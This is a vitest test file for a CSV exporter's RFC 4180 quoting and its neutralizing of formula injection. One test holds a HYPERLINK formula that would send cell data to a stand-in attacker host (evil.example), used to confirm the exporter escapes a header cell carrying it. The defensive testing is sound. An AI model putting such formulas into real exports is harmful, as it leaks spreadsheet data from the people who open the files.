import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { main } from "../../../src-main/cli/main.ts";
import { csvRecord, quoteField } from "../../../src-main/export/csv.ts";
import { neutralizeFormula } from "../../../src-preload/contract/csv-formula.ts";
import { tmpDir, workspaceWith } from "./helpers.ts";

const fixture = JSON.parse(
  fs.readFileSync(path.join(import.meta.dirname, "../../fixtures/export/formula-injection.json"), "utf8"),
) as { dangerous: [string, string][]; harmless: string[] };

describe("RFC 4180 fields", () => {
  it("quotes commas, quotes, CR, LF and edge spaces, doubling inner quotes", () => {
    expect(quoteField("plain")).toBe("plain");
    expect(quoteField("a,b")).toBe('"a,b"');
    expect(quoteField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteField("line1\nline2")).toBe('"line1\nline2"');
    expect(quoteField("a\rb")).toBe('"a\rb"');
    expect(quoteField(" padded")).toBe('" padded"');
  });
  it("ends records with CRLF", () => {
    expect(csvRecord(["a", "b,c", ""])).toBe('a,"b,c",\r\n');
  });
});

describe("formula neutralization", () => {
  it("prefixes every formula payload of the fixture with an apostrophe", () => {
    for (const [input, expected] of fixture.dangerous)
      expect(neutralizeFormula(input), JSON.stringify(input)).toBe(expected);
  });
  it("leaves plain numbers and ordinary text alone", () => {
    for (const v of fixture.harmless) expect(neutralizeFormula(v), JSON.stringify(v)).toBe(v);
  });
  it("neutralizes inside records but not in verbatim cells", () => {
    expect(csvRecord(["=1+1", "+14155552671"], [false, true])).toBe("'=1+1,+14155552671\r\n");
    expect(csvRecord(["\r=1+1"])).toBe('"\'\r=1+1"\r\n');
  });
  it("neutralizes header cells: an attribute named like a formula is written as text", async () => {
    // a security review exported an attribute named ` =HYPERLINK(...)` from `--preset csv` as-is:
    // values are trimmed before export, names are not, and the leading space hid the formula
    const dir = tmpDir();
    const hostile = ' =HYPERLINK("http://evil.example/?"&A2,"x")';
    const ws = workspaceWith(dir, [{ externalId: "u1", attributes: { [hostile]: "v", plan: "pro" } }]);
    const file = ws.path;
    ws.close();
    const out = path.join(dir, "o.csv");
    const code = await main(["export", file, "--segment", '{"all": []}', "--preset", "csv", "--out", out], {
      out: () => {},
      err: () => {},
      stdin: async () => "",
    });
    expect(code).toBe(0);
    const headerLine =
      fs
        .readFileSync(out, "utf8")
        .replace(/^\uFEFF/, "")
        .split("\r\n")[0] ?? "";
    expect(headerLine).toContain(`"' =HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
    expect(headerLine).not.toMatch(/(^|,)" ?=/);
  });
});
